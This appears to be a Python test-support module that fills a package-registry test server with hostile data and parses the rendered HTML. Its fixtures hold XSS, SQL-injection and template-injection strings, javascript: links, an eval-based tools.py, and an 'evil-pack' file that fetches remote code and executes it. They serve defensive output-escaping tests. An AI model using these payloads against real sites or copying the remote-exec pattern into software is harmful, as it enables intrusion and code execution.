"""What the registry of these tests holds."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

from registry_server.accounts.identity import OPERATOR
from registry_server.clock import stamp
from registry_server.nodes import repository as nodes
from registry_server.nodes.service import claim_rows
from registry_server.packs.tables import PackRow
from tests.support.registry import Registry
from tests.support.registry_packs import pack

HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)> Robert'); DROP TABLE packs;-- {{ 7*7 }}"
FIRST_IDS = ("Colour Split 🎨", "A/B | Compare: x?#%", "<script>alert(1)</script>", "..", "Blend (v2)")
README = f"""# Tools

{HOSTILE}

[install](#install) · [guide](docs/guide.md) · <a href="javascript:alert(3)" onclick="alert(4)">bad</a>

## Install

![shot](images/shot.png) <iframe src="https://example.com"></iframe><form action="/"><input></form>
<style>body {{ display: none }}</style>
"""
PAGES = (
    "/",
    "/search",
    "/search?q=tools&node=&publisher=acme&tag=&os=linux",
    "/search?q=nothing-like-it-at-all",
    "/search?page=99",
    "/pack/colour-tools",
    "/pack/colour-tools/versions/1.0.0",
    "/pack/colour-tools/versions/1.1.0",
    "/pack/colour-tools/duplicates",
    "/pack/copied-tools/duplicates",
    "/pack/evil-pack",
    "/pack/listed-elsewhere",
    "/publisher/acme",
    "/node/KSampler",
    "/node?id=..",
    "/duplicates",
    "/duplicates?kind=id",
    "/rules",
    "/about",
)


def fill(found: Registry) -> None:
    """Publish packs: one in three versions, its copy, one in quarantine, a banned one; list one of a catalogue."""
    for version in ("1.0.0", "1.1.0", "2.0.0b1"):
        files = {"README.md": README, "tools.py": "def run(text):\n    return eval(text)\n"}
        archive = pack("colour-tools", version, FIRST_IDS, files, packs=["image-filters>=1"], dependencies=["numpy>=2"])
        assert found.upload(archive, **{"X-Changelog": "Faster %3Cb%3E"}).status_code == 201
    found.publish("copied-tools", "1.0.0", [f"Copy {number}" for number in range(len(FIRST_IDS))])
    found.publish(
        "evil-pack", "1.0.0", ["Evil"], {"fetch.py": "import requests\nexec(requests.get('https://x.io').text)"}
    )
    found.publish("banned-pack", "1.0.0", ["Banned"])
    parts = found.parts
    with parts.database.write() as session:
        moment = found.clock()
        parts.packs.yank(session, OPERATOR, moment, "colour-tools", "1.0.0", HOSTILE)
        parts.packs.deprecate(
            session, OPERATOR, moment, "copied-tools", deprecated=True, reason=HOSTILE, replacement="colour-tools>=1"
        )
        parts.packs.set_status(session, OPERATOR, moment, "banned-pack", "banned", f"It steals. {HOSTILE}")
        texts: dict[str, Any] = dict.fromkeys(("name", "description", "author", "license"), HOSTILE)
        texts |= {"icon": "javascript:alert(5)", "repository": "javascript:alert(6)", "tags": [HOSTILE, "colour"]}
        parts.packs.edit(session, OPERATOR, moment, "colour-tools", texts)
        at = stamp(moment)
        row = PackRow(slug="listed-elsewhere", folded="listed-elsewhere", origin="catalogue", author=HOSTILE,
                      repository="https://github.com/someone/listed", created_at=at, updated_at=at)  # fmt: skip
        session.add(row)
        session.flush()
        nodes.take(session, ["Kept Node"], row.id, at, "catalogue")
        nodes.put_claims(session, row.id, claim_rows({"id": one} for one in ("Kept Node", "Blend (v2)")), "")
        parts.indexer.changed(session, moment, row, "metadata")


class Page(HTMLParser):
    """What is in a page: tags with their attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(str(html))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def values(self, attribute: str) -> Iterator[str]:
        """All values of an attribute."""
        return (attributes[attribute] for _, attributes in self.tags if attribute in attributes)
